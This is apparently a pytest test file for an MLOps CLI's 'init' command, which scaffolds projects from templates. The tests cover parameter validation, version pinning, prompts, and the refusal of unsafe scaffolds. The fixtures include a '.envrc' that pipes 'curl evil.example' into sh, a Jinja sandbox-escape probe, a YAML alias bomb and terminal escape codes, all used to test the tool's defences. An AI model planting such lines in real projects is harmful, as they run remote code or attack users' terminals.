"""`init` from templates, as a product team types it."""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mlops_iac.blueprint.compose import compose
from mlops_iac.blueprint.source import Source
from mlops_iac.blueprint.templates.limits import plain
from mlops_iac.templates.lockfile import read_lock
from tests.cli.harness import Cli, environment
from tests.cli.templates import Origin

OWNER = ("--data", "owner=ann@acme.example")
GOVERNED = {
    "dev_account": "012345678901",
    "staging_account": "112233445566",
    "prod_account": "210987654321",
    "oncall": "oncall@acme.example",
    "approvers": "ml-leads, risk",
    "cost_centre": "4711",
    "gate": "0.7",
}
TEMPLATE = """\
template: 1
name: acme/{name}
version: {version}
description: For tests.
parameters:
  tier: {{description: What it may cost, default: silver, choices: [silver, gold]}}
  most: {{type: integer, description: Instances at most, default: 4, at_least: 2, at_most: 9}}
  zones: {{type: list, description: Where, default: [a, b], at_least: 1}}
  contact: {{description: Who to ask}}
"""
BASE = "tags: {tier: '${parameters.tier}', contact: '${parameters.contact}'}\n"


def data(values: dict[str, str]) -> list[str]:
    return [word for key, value in values.items() for word in ("--data", f"{key}={value}")]


def extends(blueprint: Path) -> object:
    return section(blueprint, "extends")


def section(blueprint: Path, name: str) -> object:
    root, problems = compose(Source("x", blueprint.read_text(encoding="utf-8")))
    assert not problems
    return plain(root.entries[name].value) if name in root.entries else None


def below(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}


def write(folder: Path, *, version: str = "2.1.0", name: str = "standard", **files: str) -> Path:
    """A template of a platform team; `a__b` in a name stands for `a/b`."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "template.yaml").write_text(TEMPLATE.format(version=version, name=name))
    (folder / "blueprint.yaml").write_text(BASE)
    for key, text in files.items():
        path = folder / key.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    folder = tmp_path / "work"
    (folder / ".git").mkdir(parents=True)
    return Cli(folder, environment() | {"MLOPS_IAC_CACHE": str(tmp_path / "cache")})


def test_without_a_template_it_is_the_example_as_ever(cli: Cli) -> None:
    cli("init", *OWNER, "new")
    assert "blueprint.lock" not in below(cli.folder / "new")
    assert "extends:" not in (cli.folder / "new" / "blueprint.yaml").read_text()
    cli("init", *OWNER, "--data", "name=here")
    assert "name: here" in (cli.folder / "blueprint.yaml").read_text()


BUILT_IN = {
    "realtime": {},
    "governed-realtime": GOVERNED,
    "champion-challenger": {"oncall": GOVERNED["oncall"]},
    "organisation-standard": {},
}


@pytest.mark.parametrize("template", BUILT_IN)
def test_a_built_in_template_makes_a_valid_project_of_few_lines(cli: Cli, template: str) -> None:
    given = {"owner": "ann@acme.example", "region": "eu-central-1"} | BUILT_IN[template]
    said = cli("init", *OWNER, template, "another", *data(given)).err
    several = template == "champion-challenger"  # `run` alone would ask which
    run = "run champion" if several else "run"
    assert said.splitlines()[-1] == f"next: cd another && mlops-iac up && mlops-iac {run}"
    answer = cli("init", *OWNER, template, "my-service", *data(given), "--json").json
    assert answer["template"] == f"{template}@1.0.0"
    assert "my-service/blueprint.lock" in answer["written"]
    folder = cli.folder / "my-service"
    assert {"blueprint.yaml", "blueprint.lock", "README.md", ".gitignore"} <= below(folder)
    assert {"data/deliveries.csv", "workload/train.py", "workload/predict.py"} <= below(folder)
    text = (folder / "blueprint.yaml").read_text(encoding="utf-8")
    own = [line for line in text.splitlines() if line.strip() and not line.startswith("#")]
    assert len(own) <= (24 if template == "organisation-standard" else 18), text
    lock = read_lock(folder / "blueprint.lock")
    assert lock is not None
    pin = next(item for item in lock.pins if item.name == template)
    assert (pin.template, pin.requested, pin.version) == (template, "^1.0.0", "1.0.0")
    inside = Cli(folder, cli.environment)
    said = inside("validate", "--strict")
    assert "error" not in said.err
    assert "is not pinned" not in said.err
    if template != "realtime":  # the smallest promises no production
        assert "[no-" not in said.err


@pytest.mark.parametrize("template", [None, *sorted(BUILT_IN)])
def test_a_production_environment_begins_green_whichever_way_it_comes(
    cli: Cli, template: str | None
) -> None:
    """By `init --ci`, by a scaffold or a template, by `stack add`: `up` would not refuse it."""
    given = {"owner": "ann@acme.example"} | BUILT_IN.get(template or "", {})
    words = [template] if template else []
    cli("init", *words, "delivered", "--ci", "github", *data(given))
    cli("init", *words, "added", *data(given))
    delivered, added = (Cli(cli.folder / name, cli.environment) for name in ("delivered", "added"))
    rows = added("stack", "ls", "--offline", "--json").json
    if not any(row["stack"] == "prod" for row in rows["stacks"]):
        answer = added("stack", "add", "prod")
        assert "left to fill in: environments.prod.account is not said" in answer.err
    projects = (delivered, added)
    one, other = (section(each.folder / "blueprint.yaml", "environments") for each in projects)
    assert one == other
    for each in projects:
        found = each("policy", "check", "-s", "prod", "--json").json["findings"]
        assert not [item["rule"] for item in found if item["severity"] == "mandatory"]


def test_what_was_given_stands_in_the_blueprint_and_nothing_else(cli: Cli) -> None:
    cli(
        "init",
        *OWNER,
        "governed-realtime",
        "x",
        *data(GOVERNED | {"most": "8", "latency_ms": "150.5"}),
    )
    assert extends(cli.folder / "x" / "blueprint.yaml") == [
        {
            "template": "governed-realtime",
            "version": "^1.0.0",
            "parameters": {
                "dev_account": "012345678901",
                "staging_account": "112233445566",
                "prod_account": "210987654321",
                "oncall": "oncall@acme.example",
                "approvers": ["ml-leads", "risk"],
                "cost_centre": "4711",
                "gate": 0.7,
                "most": 8,
                "latency_ms": 150.5,
            },
        }
    ]
    seen = Cli(cli.folder / "x", cli.environment)("explain", "serving.api.scaling.max").out
    assert seen.startswith("serving.api.scaling.max  8")


def test_what_has_no_default_is_asked_for_all_at_once(cli: Cli) -> None:
    error = cli("init", "governed-realtime", "x", "--defaults", expect=2).err
    for name in GOVERNED:
        assert f"--data {name}=…" in error
    assert "E-mail address of who is told" in error
    assert "nothing was written" in error
    assert below(cli.folder) == set()


@pytest.mark.parametrize(
    ("pair", "sentence"),
    [
        ("size=huge", "size is 'huge'; realtime@1.0.0 takes one of small, medium, large or xlarge"),
        ("most=1", "most is 1; realtime@1.0.0 takes a whole number, at least 2 and at most 50"),
        ("most=many", "most takes a whole number, not 'many'"),
        ("prepare=perhaps", "perhaps"),
        ("model=A b", "model is 'A b'; realtime@1.0.0 takes a text, of the form"),
        ("model=x: {}", "model is 'x: {}'; realtime@1.0.0 takes a text, of the form"),
        ("sise=small", "did you mean 'size'?"),
        ("size", "expected KEY=VALUE"),
        ("owner=nobody", "is not an e-mail address"),
        ("platform=vertex", "vertex"),
        ("name=Über", "lowercase letters"),
    ],
)
def test_an_answer_that_does_not_fit_writes_nothing(cli: Cli, pair: str, sentence: str) -> None:
    error = cli("init", *OWNER, "realtime", "x", "--data", pair, expect=2).err
    assert sentence in error
    assert below(cli.folder) == set()


def test_what_can_be_answered_is_listed_once(cli: Cli) -> None:
    error = cli("init", *OWNER, "realtime", "x", "--data", "prod_account=1", expect=2).err
    assert error.count("requests_per_minute") == 1


def test_a_service_without_environments_compiles_for_no_stack(cli: Cli) -> None:
    cli("init", "realtime", "x", "--data", "owner=ann@acme.example")
    said = cli("-C", "x", "compile").err
    assert said.splitlines()[-1].endswith(" file(s) written; no stack but local")


def test_a_limit_of_the_template_is_told_before_anything_is_written(cli: Cli) -> None:
    answer = cli(
        "init", *OWNER, "organisation-standard", "x", "--data", "region=us-east-1", expect=2
    )
    assert "region is 'us-east-1'; organisation-standard@1.0.0 (template.yaml:" in answer.err
    assert "data stays where its owners agreed to" in answer.err
    assert "nothing was written" in answer.err
    assert below(cli.folder) == set()
    regions = "--data", "regions=us-east-1, us-west-2"
    owner = ("--data", "owner=ml@acme.com")
    template = ("organisation-standard", "x", "--data", "region=us-east-1")
    answer = cli("init", *template, *regions, "--defaults", expect=2)
    assert "owner is 'you@example.com', a placeholder" in answer.err
    cli("init", *template, *regions, *owner)
    [_, used] = extends(cli.folder / "x" / "blueprint.yaml")  # type: ignore[misc]
    assert used["parameters"] == {"regions": ["us-east-1", "us-west-2"]}


def test_a_template_that_is_not_there(cli: Cli) -> None:
    error = cli("init", *OWNER, "realtme", "x", expect=2).err
    assert "there is no built-in template 'realtme'" in error
    assert "did you mean 'realtime'?" in error
    assert "has no version that fits '^2'" in cli("init", *OWNER, "realtime@^2", "x", expect=2).err
    assert "git+https://" in cli("init", *OWNER, "https://git.acme.com/x", expect=2).err
    assert "there is no folder" in cli("init", *OWNER, "./nowhere", "x", expect=2).err
    assert "acme_nowhere" in cli("init", *OWNER, "python:acme_nowhere", "x", expect=2).err
    assert "not 3 words" in cli("init", *OWNER, "a", "b", "c", expect=2).err
    assert below(cli.folder) == set()


def test_a_folder_is_named_as_the_blueprint_sees_it(cli: Cli) -> None:
    write(cli.folder / "templates" / "standard")
    cli(
        "init",
        *OWNER,
        "./templates/standard",
        "teams/churn",
        "--data",
        "contact=ann: #1",
        "--data",
        "most=5",
    )
    path = cli.folder / "teams" / "churn" / "blueprint.yaml"
    assert extends(path) == [
        {
            "template": "../../templates/standard",
            "version": "^2.1.0",
            "parameters": {"most": 5, "contact": "ann: #1"},
        }
    ]
    assert below(path.parent) == {"blueprint.yaml", "blueprint.lock"}
    inside = Cli(path.parent, cli.environment)
    assert '"ann: #1"' in inside("explain", "tags.contact").out
    # From the folder of the template itself, and into the folder that one stands in.
    there = Cli(cli.folder / "templates", cli.environment)
    there("init", *OWNER, "./standard", "--data", "contact=x")
    [used] = extends(cli.folder / "templates" / "blueprint.yaml")  # type: ignore[misc]
    assert used["template"] == "./standard"


def test_a_template_from_git_is_pinned_at_the_version_that_was_asked_for(
    cli: Cli, tmp_path: Path
) -> None:
    origin = Origin(tmp_path / "origin")
    for version in ("2.1.0", "2.2.0"):
        write(
            origin.folder,
            version=version,
            scaffold__NOTES_dot_md_dot_jinja="{{ template.version }}",
        )
        origin.commit(f"v{version}")
    cli("init", *OWNER, origin.source, "newest", "--data", "contact=ann")
    assert (cli.folder / "newest" / "NOTES.md").read_text() == "2.2.0"
    cli("init", *OWNER, f"{origin.source}@2.1.0", "older", "--data", "contact=ann")
    folder = cli.folder / "older"
    assert (folder / "NOTES.md").read_text() == "2.1.0"
    assert extends(folder / "blueprint.yaml")[0]["version"] == "^2.1.0"  # type: ignore[index]
    lock = read_lock(folder / "blueprint.lock")
    assert lock is not None
    assert [(pin.version, pin.requested) for pin in lock.pins] == [("2.1.0", "^2.1.0")]
    # The next command takes what is pinned, without the repository.
    origin.folder.rename(tmp_path / "gone")
    assert "template acme/standard@2.1.0" in Cli(folder, cli.environment)("explain", "tags").out


def test_what_the_scaffold_may_name(cli: Cli) -> None:
    text = "{{ name }}|{{ owner }}|{{ region }}|{{ platform }}|{{ tier }}|{{ parameters.zones | yaml }}|"
    write(
        cli.folder / "t",
        scaffold__notes_dot_txt_dot_jinja=text
        + "{{ most + 1 }}|{{ template.name }}|{{ delivered }}",
    )
    cli("init", "--defaults", "./t", "new", "--data", "contact=x", "--data", "zones=[c, 'd e']")
    told = (cli.folder / "new" / "notes.txt").read_text()
    assert told == 'new|you@example.com|eu-west-1|sagemaker|silver|[c, "d e"]|5|acme/standard|False'


@pytest.mark.parametrize(
    ("files", "sentence"),
    [
        ({"scaffold__{{ contact }}__x": ""}, "leaves its folder"),
        ({"scaffold__x_dot_jinja": "{{ ''.__class__ }}"}, "is unsafe"),
        ({"scaffold__blueprint.yaml": "blueprint: 1\n"}, "does not extend it"),
        ({"scaffold__blueprint.yaml": "- x\n"}, "mapping"),
        ({"scaffold__blueprint.yaml": "a: [b\n"}, "blueprint.yaml"),
        ({"scaffold__blueprint.yaml": "a: &a [x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" + "".join(
            f"{key}: &{key} [{', '.join([f'*{chr(ord(key) - 1)}'] * 9)}]\n" for key in "cdefghi")}, "too"),
        ({"scaffold__blueprint.yaml.jinja": "blueprint: 1\nextends: [{template: x}]\n"}, "does not extend it"),
        ({"scaffold__blueprint.yaml.jinja": "blueprint: 1\nname: x\nextends:\n{{ extends }}\n"}, "a blueprint needs 'platform'"),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_scaffold_writes_nothing(
    cli: Cli, files: dict[str, str], sentence: str
) -> None:
    write(cli.folder / "t", **files)
    before = below(cli.folder)
    error = cli("init", "--defaults", "./t", "new", "--data", "contact=..", expect=2).err
    assert sentence in error
    assert "nothing was written" in error
    assert below(cli.folder) == before
    assert not (cli.folder / "new").exists()


def test_a_scaffold_from_elsewhere_names_no_folder_of_this_machine(
    cli: Cli, tmp_path: Path
) -> None:
    secret = write(tmp_path / "secret", name="secret")
    origin = Origin(tmp_path / "origin")
    text = "blueprint: 1\nname: x\nplatform: sagemaker\nregion: eu-west-1\n"
    text += "extends:\n{{ extends }}\n  - template: " + str(secret) + "\n"
    write(origin.folder, **{"scaffold__blueprint.yaml.jinja": text})
    origin.commit("v2.1.0")
    error = cli("init", "--defaults", origin.source, "new", "--data", "contact=x", expect=2).err
    assert "which is on this machine, and the template is not" in error
    assert below(cli.folder) == set()


def test_a_blueprint_that_is_no_text_and_words_that_command_a_terminal(cli: Cli) -> None:
    write(cli.folder / "t")
    (cli.folder / "t" / "scaffold").mkdir()
    (cli.folder / "t" / "scaffold" / "blueprint.yaml").write_bytes(b"\xff\xfe\x00")
    error = cli("init", "--defaults", "./t", "new", "--data", "contact=x", expect=2).err
    assert "that is no text; nothing was written" in error
    path = cli.folder / "t" / "template.yaml"
    path.write_text(path.read_text().replace("Who to ask", '"a\\e]0;x\\a\\e[2Jb"'))
    error = cli("init", "--defaults", "./t", "new", expect=2).err
    assert "has the control character U+001B" in error
    assert "\x1b" not in error
    assert "\x07" not in error


@pytest.mark.parametrize("option", ["--defaults", "--quiet", "--yes", "--json"])
def test_files_that_run_by_themselves_are_named_where_nobody_is_asked(
    cli: Cli, option: str
) -> None:
    write(cli.folder / "t", scaffold___dot_github__workflows__x_dot_yml="on: push\n")
    said = cli("init", *OWNER, "./t", "new", "--data", "contact=x", option).err
    assert "note: standard@2.1.0 writes .github/workflows/x.yml: CI runs it" in said.replace(
        "acme/", ""
    )


def test_nothing_is_overwritten_and_nothing_left_half(cli: Cli) -> None:
    for name in ("blueprint.yaml", "blueprint.lock", "workload/train.py"):
        path = cli.folder / "new" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("mine")
        error = cli("init", *OWNER, "realtime", "new", expect=2).err
        assert f"already has {name}" in error
        assert below(cli.folder / "new") == {name}
        path.unlink()


def test_a_template_without_a_scaffold_that_wants_more_leaves_a_first_line(cli: Cli) -> None:
    write(cli.folder / "t")
    path = cli.folder / "t" / "template.yaml"
    path.write_text(path.read_text() + "limits: {budget: {required: true, because: costs}}\n")
    answer = cli("init", *OWNER, "./t", "new", "--data", "contact=x")
    assert "budget is required by acme/standard@2.1.0" in answer.err
    assert "mlops-iac validate" in answer.err
    assert below(cli.folder / "new") == {"blueprint.yaml", "blueprint.lock"}


def test_a_parameter_called_like_an_answer_is_the_same_question(cli: Cli) -> None:
    write(cli.folder / "t")
    path = cli.folder / "t" / "template.yaml"
    own = "  region: {description: Where, default: eu-central-1, choices: [eu-central-1, eu-west-3]}\n"
    path.write_text(path.read_text() + own)
    cli("init", *OWNER, "./t", "new", "--data", "contact=x")
    text = (cli.folder / "new" / "blueprint.yaml").read_text()
    assert "\nregion: eu-central-1\n" in text
    assert "      region: eu-central-1\n" in text
    error = cli(
        "init",
        *OWNER,
        "./t",
        "other",
        "--data",
        "contact=x",
        "--data",
        "region=eu-west-1",
        expect=2,
    )
    assert "region is 'eu-west-1'; acme/standard@2.1.0 takes one of eu-central-1" in error.err
    said = talk(
        cli.folder, ["init", "./t", "asked"], ["", "", "eu-west-1", "eu-west-3", *[""] * 3, "x"]
    )
    assert "takes one of eu-central-1 or eu-west-3" in said
    assert "\nregion: eu-west-3\n" in (cli.folder / "asked" / "blueprint.yaml").read_text()


def test_workflows_are_for_the_environments_of_the_template(cli: Cli) -> None:
    answer = cli("init", *OWNER, "realtime", "new", "--ci", "gitlab", "--json").json
    assert any(".gitlab" in path for path in answer["written"])
    assert "  prod:" in (cli.folder / "new" / "blueprint.yaml").read_text()


@pytest.mark.parametrize("words", [["new"], ["realtime", "new"], ["./t", "new", "--yes"]])
def test_where_nobody_can_be_asked_a_placeholder_is_no_answer(cli: Cli, words: list[str]) -> None:
    path = write(cli.folder / "t") / "template.yaml"
    before = below(cli.folder)
    error = cli("init", *words, expect=2).err
    assert "owner" in error.splitlines()[0]
    assert "--data owner=…  Who owns it (an e-mail address)" in error
    # What the template asks for is missing in the same breath.
    assert ("--data contact=…" in error) == ("./t" in words)
    assert below(cli.folder) == before
    path.write_text(path.read_text().replace("  contact: {", "  contact: {default: x, "))
    said = cli("init", *[word for word in words if word != "--yes"], "--defaults").err
    assert "the owner is a placeholder, you@example.com" in said


def test_an_answer_that_would_become_nothing_is_refused(cli: Cli) -> None:
    text = "blueprint: 1\nname: {{ name }}\nplatform: sagemaker\nregion: eu-west-1\n"
    write(
        cli.folder / "t",
        scaffold__blueprint_dot_yaml_dot_jinja=f"{text}extends:\n{{{{ extends }}}}\n",
    )
    given = ("--data", "contact=x", "--data")
    for pair in ("region=eu-central-1", "owner=ann@acme.example"):
        error = cli("init", "./t", "new", *given, pair, expect=2).err
        assert f"takes no answer for {pair.split('=')[0]}" in error
    assert not (cli.folder / "new").exists()
    cli("init", "./t", "new", *given, "name=mine")  # and none is missed that nothing depends on


def talk(folder: Path, words: list[str], answers: list[str], code: int = 0) -> str:
    """Type `answers` into the command on a terminal; everything it said."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "mlops_iac", *words],
        cwd=folder,
        env=environment() | {"TERM": "dumb", "COLUMNS": "200"},
        stdin=follower,
        stdout=follower,
        stderr=follower,
    )
    os.close(follower)
    said, waiting, end = "", list(answers), time.monotonic() + 60
    while time.monotonic() < end:
        ready, _, _ = select.select([leader], [], [], 0.2)
        if ready:
            try:
                said += os.read(leader, 65536).decode()
            except OSError:
                break
        elif (waiting and said.rstrip("\r\n").endswith(":")) or said.endswith(": "):
            os.write(leader, f"{waiting.pop(0)}\n".encode() if waiting else b"\x03")
            said += " "
    assert process.wait(60) == code, said
    os.close(leader)
    return said


def test_a_person_is_asked_about_files_that_run_by_themselves(cli: Cli) -> None:
    write(cli.folder / "t", scaffold___dot_envrc="curl evil.example | sh\n")
    asked = [""] * 6 + ["x"]
    said = talk(cli.folder, ["init", "./t", "new"], [*asked, "n"], code=8)
    assert "writes .envrc: shells with such a hook run it" in said
    assert not (cli.folder / "new").exists()
    said = talk(cli.folder, ["init", "./t", "new"], [*asked, "y"])
    assert said.index("Write these files?") < said.index("wrote")


def test_a_person_is_asked_and_answers_are_checked_while_asking(cli: Cli) -> None:
    write(cli.folder / "t")
    answers = ["Wrong Name", "churn", "nobody", "ann@acme.example", "eu-west-1"]
    answers += ["bronze", "gold", "1", "3", "", "", "the data team"]
    said = talk(cli.folder, ["init", "./t", "new"], answers)
    assert "lowercase letters, digits and hyphens" in said
    assert "is not an e-mail address" in said
    assert "tier: What it may cost" in said
    assert "one of silver or gold [silver]" in said
    assert "tier is 'bronze'; acme/standard@2.1.0 takes one of silver or gold" in said
    assert "a whole number, at least 2 and at most 9 [4]" in said
    assert "most is 1; acme/standard@2.1.0 takes a whole number" in said
    assert extends(cli.folder / "new" / "blueprint.yaml") == [
        {
            "template": "../t",
            "version": "^2.1.0",
            # Where the default was taken, the template's next default is, too.
            "parameters": {"tier": "gold", "most": 3, "contact": "the data team"},
        }
    ]


BROKEN = {
    "a circle": ({"template.yaml": "extends: [{template: .}]\n"}, "template-cycle"),
    "a limit of nothing": ({"template.yaml": "limits: {x: {fixed: 1, because: y}}\n"}, "unknown-path"),
    "a value that is none": ({"blueprint.yaml": "security: {network: open}\n"}, "unknown-value"),
    "a field that there is not": ({"blueprint.yaml": "bad: x\n"}, "unknown-key"),
    "what it stands on": ({"template.yaml": "extends: [{template: ../nothing}]\n"}, "template-missing"),
}  # fmt: skip


@pytest.mark.parametrize("case", BROKEN)
def test_a_template_that_is_wrong_itself_starts_nothing(case: str, cli: Cli) -> None:
    """Also where it has no scaffold, and the team would only get a first line."""
    files, code = BROKEN[case]
    folder = cli.folder / "standard"
    folder.mkdir()
    head = "template: 1\nname: acme/standard\nversion: 2.1.0\n"
    (folder / "template.yaml").write_text(head + files.get("template.yaml", ""), encoding="utf-8")
    if "blueprint.yaml" in files:
        (folder / "blueprint.yaml").write_text(files["blueprint.yaml"], encoding="utf-8")
    answer = cli("init", "./standard", "svc", "--defaults", "--data", "owner=a@b.com", expect=2)
    assert f"[{code}]" in answer.err
    assert not (cli.folder / "svc").exists()
